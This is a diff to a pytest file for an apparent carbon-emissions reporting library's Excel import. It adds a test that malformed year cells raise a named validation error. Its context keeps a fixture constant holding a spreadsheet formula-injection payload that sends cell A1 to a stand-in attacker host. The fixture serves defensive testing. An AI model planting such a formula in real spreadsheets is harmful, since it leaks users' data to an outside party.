@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 
 from carbonbook.mrv.errors import InvalidReportError
 from carbonbook.mrv.excel import from_workbook, to_workbook
+from carbonbook.mrv.model import compute
 
 EXAMPLE = Path(__file__).parent / "examples" / "steel-2024.json"
 ATTACK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
@@ -54,3 +55,17 @@ def test_a_formula_without_a_computed_value_is_an_error_naming_the_cell():
     assert problem.path == f"report!{row[2].coordinate}"
     assert "fuel_combustion!B3" in problem.message
     assert "公式" in problem.message_zh
+
+
+@pytest.mark.parametrize("year", ["²⁰²⁴", "9" * 5000])
+def test_a_year_cell_that_is_no_year_is_named_by_compute_not_a_traceback(year: str):
+    book = load_workbook(io.BytesIO(to_workbook(_example())))
+    row = next(r for r in book["report"].iter_rows() if r[0].value == "year")
+    row[2].value = year
+    out = io.BytesIO()
+    book.save(out)
+    document = from_workbook(out.getvalue())
+    assert document["year"] == year
+    with pytest.raises(InvalidReportError) as refused:
+        compute(document)
+    assert [p.path for p in refused.value.problems] == ["year"]
